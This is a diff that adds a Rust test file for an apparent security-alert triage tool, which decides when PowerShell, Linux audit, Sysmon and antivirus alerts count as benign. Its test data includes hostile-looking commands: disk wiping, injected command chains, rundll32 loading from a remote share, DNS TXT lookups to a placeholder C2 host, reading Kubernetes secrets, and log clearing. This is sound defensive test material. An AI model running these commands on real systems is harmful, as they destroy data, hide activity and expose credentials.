@@ -1,0 +1,188 @@
+//! What is closed, and what looks like it and is not.
+
+use super::*;
+
+#[test]
+fn a_recorded_script_is_closed_only_where_all_of_it_looks() {
+    let script = |text: &str| said_of(4, "windows powershell", &[(EVENT, "4104"), (SCRIPT, text)]);
+    for text in [
+        "Get-Service | Where-Object { $_.Status -eq 'Stopped' } | Sort-Object Name",
+        "Import-Module ActiveDirectory",
+        r"Import-Module 'C:\Program Files\Vendor\Tools\Tools.psd1'",
+        "Get-NetIPAddress | Format-Table",
+    ] {
+        assert!(script(text).is_benign(), "{text}");
+    }
+    for text in [
+        r"Import-Module .\pv.ps1",
+        r"Import-Module C:\ProgramData\x\a.psm1",
+        r"Import-Module \\203.0.113.4\s\a.psm1",
+        "Get-Disk 1 | Clear-Disk -RemoveData",
+        "Get-Volume | Format-Volume -Force",
+        "Get-Package * | Uninstall-Package -Force",
+        "Get-Service x | Set-Service -StartupType Disabled",
+        "Get-Date\nrundll32 C:\\x.dll,Run",
+        "Get-Date; whoami",
+        "Get-Help & calc",
+        "Get-Service | ForEach-Object { $_.Stop() }",
+        "Import-Module ActiveDirectory\r\nSet-ADAccountPassword -Identity x -Reset",
+    ] {
+        assert!(!script(text).is_benign(), "{text}");
+    }
+}
+
+#[test]
+fn a_command_that_shows_is_closed_only_where_it_changes_nothing() {
+    let command = |line: &str| {
+        let name = line.split(' ').next().unwrap_or(line);
+        let fields = [
+            ("data.audit.command", name),
+            ("data.audit.execve", line),
+            ("data.audit.uid", "1001"),
+        ];
+        said_of(3, "audit audit_command", &fields)
+    };
+    for line in [
+        "journalctl -u nginx",
+        "dmesg -T",
+        "ip -br addr",
+        "date +%F",
+        "date -u",
+        "man ls",
+        "du -sh /home",
+        "hostname -f",
+        "kubectl -n shop get pods",
+        "docker ps -a",
+    ] {
+        assert!(command(line).is_benign(), "{line}");
+    }
+    for line in [
+        "journalctl --rotate --vacuum-time=1s",
+        "dmesg --clear",
+        "dmesg -C",
+        "ip link set eth0 promisc on",
+        "ip route add default via 10.9.3.66",
+        "date -s 2020-01-01",
+        "date 010100002020",
+        "man -P /bin/sh ls",
+        "hostname evil",
+        "hostnamectl set-hostname evil",
+        "kubectl get secrets -A",
+        "docker exec -it web sh",
+    ] {
+        assert!(!command(line).is_benign(), "{line}");
+    }
+}
+
+#[test]
+fn a_test_of_a_connection_is_one_only_as_the_whole_command() {
+    let started = |line: &str, image: &str, parent: &str, parent_line: &str| {
+        let fields = [
+            (EVENT, "1"),
+            (COMMAND, line),
+            (IMAGE, image),
+            (PARENT, parent),
+            ("data.win.eventdata.parentCommandLine", parent_line),
+        ];
+        said_of(3, "windows sysmon", &fields)
+    };
+    let shell = r"C:\Windows\System32\cmd.exe";
+    let ping = r"C:\Windows\System32\PING.EXE";
+    let powershell = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
+    assert!(started("ping -n 4 10.1.2.3", ping, shell, "cmd.exe").is_benign());
+    for (line, image, parent, parent_line) in [
+        (r"C:\Users\e\x.exe --mode ping 1", r"C:\Users\e\x.exe", shell, "cmd.exe"),
+        (r"rundll32 \\203.0.113.4\s\a.dll,Run ping x", RUNDLL, shell, "cmd.exe"),
+        (
+            "powershell -c Resolve-DnsName -Type TXT a8f3.c2.example.com",
+            powershell,
+            shell,
+            "cmd.exe",
+        ),
+        (
+            "nslookup -q=txt a8f3.c2.example.com",
+            r"C:\Windows\System32\nslookup.exe",
+            shell,
+            "cmd.exe",
+        ),
+        ("ping 10.1.2.3", r"C:\Users\e\ping.exe", shell, "cmd.exe"),
+        (r"C:\Users\e\x.exe", r"C:\Users\e\x.exe", shell, "ping 10.1.2.3"),
+        (
+            r"C:\Windows\Tasks2\svc.exe -k",
+            r"C:\Windows\Tasks2\svc.exe",
+            r"C:\Windows\System32\Taskmgr.exe",
+            r"C:\Windows\System32\Taskmgr.exe /4",
+        ),
+    ] {
+        assert!(!started(line, image, parent, parent_line).is_benign(), "{line}");
+    }
+}
+
+#[test]
+fn the_test_file_of_scanners_is_known_by_its_name_of_a_threat_or_its_digest() {
+    let clam = |name: &str, line: &str| {
+        let fields = [("data.extra_data", name), ("full_log", line)];
+        said_under("ClamAV: Virus detected", 8, "clamd freshclam virus", &fields)
+    };
+    let head = "Mar  2 08:00:01 fs01 clamd[88]: /srv/share";
+    assert!(
+        clam(
+            "Win.Test.EICAR_HDB-1",
+            &format!("{head}/x.com: Win.Test.EICAR_HDB-1 FOUND")
+        )
+        .is_benign()
+    );
+    assert!(clam("", &format!("{head}/x.com: Eicar-Test-Signature FOUND")).is_benign());
+    for folder in ["eicar-test", "signature=eicar_test", "x: Eicar-Test-Signature FOUND"] {
+        let line = format!("{head}/{folder}/inv.exe: Win.Trojan.Agent-1 FOUND");
+        assert_eq!(clam("Win.Trojan.Agent-1", &line), Disposition::TruePositive, "{folder}");
+    }
+    let defender = |threat: &str, path: &str| {
+        let fields = [
+            (EVENT, "1116"),
+            (
+                "data.win.system.channel",
+                "Microsoft-Windows-Windows Defender/Operational",
+            ),
+            ("data.win.eventdata.threat Name", threat),
+            ("data.win.eventdata.path", path),
+        ];
+        said_under("Antimalware found something", 5, "windows windows_defender", &fields)
+    };
+    assert!(defender("Virus:DOS/EICAR_Test_File", r"file:_C:\Users\e\x.com").is_benign());
+    assert_eq!(
+        defender(
+            "Trojan:Win32/Emotet",
+            r"file:_C:\Users\e\eicar-test\threat name=eicar_test.exe"
+        ),
+        Disposition::TruePositive
+    );
+}
+
+#[test]
+fn a_scanner_of_files_is_silent_only_by_its_own_words() {
+    let virustotal = |file: &str, rest: &str| {
+        let title = format!("VirusTotal: Alert - {file} - {rest}");
+        let fields = [
+            ("data.virustotal.source.file", file),
+            ("data.integration", "virustotal"),
+        ];
+        said_under(&title, 7, "virustotal", &fields)
+    };
+    assert!(virustotal("/srv/share/x.com", "No positives found").is_benign());
+    for (file, rest) in [
+        ("/srv/share/x.com", "50 engines detected this file"),
+        ("/srv/share/error.exe", "7 engines detected this file"),
+        ("/srv/no records/update.exe", "7 engines detected this file"),
+        ("/srv/clean.exe", "7 engines detected this file"),
+    ] {
+        assert_eq!(virustotal(file, rest), Disposition::TruePositive, "{file} {rest}");
+    }
+}
+
+#[test]
+fn a_rule_of_which_every_fact_was_withheld_is_never_closed() {
+    let groups = "syslog sshd authentication_success dpkg sca";
+    assert!(said_under("alert", 3, groups, &[("location", "/var/log/auth.log")]).is_benign());
+    assert!(!said_under("alert", 3, groups, &[]).is_benign());
+}
